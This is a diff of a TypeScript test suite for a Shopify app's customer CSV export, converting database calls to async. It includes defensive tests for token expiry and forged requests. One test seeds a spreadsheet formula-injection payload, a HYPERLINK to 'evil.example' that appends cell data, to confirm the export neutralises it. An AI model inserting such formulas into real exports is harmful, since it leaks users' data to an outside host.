@@ -4,7 +4,6 @@ import { seedCustomer } from "~/dashboard/test/seed";
 import { loader as listLoader } from "~/routes/app.customers._index";
 import { action as exportAction, loader as exportLoader } from "~/routes/app.customers.export";
 import { services } from "~/services.server";
-import { writeTransaction } from "~/sync/sqlite.server";
 import { addShop, appRequest, args, BROWSER, documentRequest, resetDatabase, run, storeOfflineSession } from "./support";
 
 const ALPHA = "alpha.myshopify.com";
@@ -13,14 +12,14 @@ let alpha = "";
 let beta = "";
 
 beforeEach(async () => {
-  resetDatabase();
-  alpha = addShop(ALPHA);
-  beta = addShop(BETA);
+  await resetDatabase();
+  alpha = await addShop(ALPHA);
+  beta = await addShop(BETA);
   await storeOfflineSession(ALPHA);
   await storeOfflineSession(BETA);
   const { db } = services();
   for (let i = 1; i <= 5; i++) {
-    seedCustomer(db, alpha, {
+    await seedCustomer(db, alpha, {
       customerKey: `gid://shopify/Customer/${i}`,
       email: `a${i}@example.com`,
       persona: i <= 2 ? "champions" : "lost",
@@ -31,8 +30,8 @@ beforeEach(async () => {
       monetaryMinor: i * 1000,
     });
   }
-  seedCustomer(db, alpha, { customerKey: "email:guest@example.com", email: "guest@example.com", persona: "lost", r: 1, f: 1, m: 1 });
-  seedCustomer(db, beta, { customerKey: "gid://shopify/Customer/99", email: "beta@example.com", persona: "champions", r: 5, f: 5, m: 5 });
+  await seedCustomer(db, alpha, { customerKey: "email:guest@example.com", email: "guest@example.com", persona: "lost", r: 1, f: 1, m: 1 });
+  await seedCustomer(db, beta, { customerKey: "gid://shopify/Customer/99", email: "beta@example.com", persona: "champions", r: 5, f: 5, m: 5 });
 });
 
 const list = async (shop: string, query = "") => run(async () => listLoader(args(await appRequest(`/app/customers${query}`, shop))));
@@ -100,7 +99,7 @@ describe("CSV export", () => {
     );
 
     expect(forged.status).toBe(401);
-    expect(services().db.prepare(`SELECT count(*) FROM "DownloadToken"`).pluck().get()).toBe(0);
+    expect(await services().db.prepare(`SELECT count(*) FROM "DownloadToken"`).pluck().get()).toBe(0);
   });
 
   it("GIVEN Export CSV WHEN the link is made THEN its URL holds a one-time token and no session token, and only the token's hash is stored", async () => {
@@ -118,7 +117,7 @@ describe("CSV export", () => {
     expect(out.data.url).not.toContain("id_token");
     const token = url.searchParams.get("token")!;
     expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/); // 256 random bits
-    const stored = services().db.prepare(`SELECT tokenHash, shopId, purpose, expiresAt, usedAt FROM "DownloadToken"`).all() as {
+    const stored = await services().db.prepare(`SELECT tokenHash, shopId, purpose, expiresAt, usedAt FROM "DownloadToken"`).all() as {
       tokenHash: string;
       expiresAt: number;
     }[];
@@ -149,7 +148,7 @@ describe("CSV export", () => {
   it("GIVEN a download link a minute old WHEN opened THEN it is refused as expired", async () => {
     const url = await linkFor(ALPHA);
     // The minute passes (the stored expiry is what the server checks).
-    services().db.prepare(`UPDATE "DownloadToken" SET expiresAt = ?`).run(Date.now() - 1);
+    await services().db.prepare(`UPDATE "DownloadToken" SET expiresAt = ?`).run(Date.now() - 1);
 
     const out = await download(url);
 
@@ -170,7 +169,7 @@ describe("CSV export", () => {
     expect((await download("/app/customers/export?token=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")).status).toBe(403);
     // And a shop that uninstalled after the link was made gets nothing.
     const late = await linkFor(BETA);
-    services().db.prepare(`UPDATE "Shop" SET uninstalledAt = ? WHERE id = ?`).run(Date.now(), beta);
+    await services().db.prepare(`UPDATE "Shop" SET uninstalledAt = ? WHERE id = ?`).run(Date.now(), beta);
     expect((await download(late)).status).toBe(403);
   });
 
@@ -195,13 +194,13 @@ describe("CSV export", () => {
 
     expect(out.status).toBe(400);
     expect(out.data.errors).toEqual({ m: "scores run 1–5" });
-    expect(services().db.prepare(`SELECT count(*) FROM "DownloadToken"`).pluck().get()).toBe(0);
+    expect(await services().db.prepare(`SELECT count(*) FROM "DownloadToken"`).pluck().get()).toBe(0);
   });
 
   it("GIVEN customer data a spreadsheet would run WHEN exported THEN those cells are neutralised and negative money stays a number", async () => {
     const { db } = services();
-    seedCustomer(db, alpha, { customerKey: "email:x@example.com", email: ' \u0000=HYPERLINK("http://evil.example/"&A1)', persona: "lost", monetaryMinor: -1250, r: 1, f: 1, m: 1 });
-    seedCustomer(db, alpha, { customerKey: "email:y@example.com", email: "\t@SUM(1+1)", persona: "lost", r: 1, f: 1, m: 1 });
+    await seedCustomer(db, alpha, { customerKey: "email:x@example.com", email: ' \u0000=HYPERLINK("http://evil.example/"&A1)', persona: "lost", monetaryMinor: -1250, r: 1, f: 1, m: 1 });
+    await seedCustomer(db, alpha, { customerKey: "email:y@example.com", email: "\t@SUM(1+1)", persona: "lost", r: 1, f: 1, m: 1 });
 
     const text = await (await download(await linkFor(ALPHA, "?q=example.com"))).response!.text();
 
@@ -212,9 +211,9 @@ describe("CSV export", () => {
 
   it("GIVEN a large shop WHEN its CSV is downloaded THEN the event loop keeps turning between pages", async () => {
     const { db } = services();
-    writeTransaction(db, () => {
-      for (let i = 0; i < 20_000; i++) seedCustomer(db, alpha, { customerKey: `gid://shopify/Customer/${100_000 + i}`, email: `c${i}@example.com`, persona: "lost" });
-    })();
+    await db.transaction(async () => {
+      for (let i = 0; i < 20_000; i++) await seedCustomer(db, alpha, { customerKey: `gid://shopify/Customer/${100_000 + i}`, email: `c${i}@example.com`, persona: "lost" });
+    });
     const out = await download(await linkFor(ALPHA));
     // Counts turns of the event loop (one check phase each) while the body is read as fast as possible.
     let turns = 0;
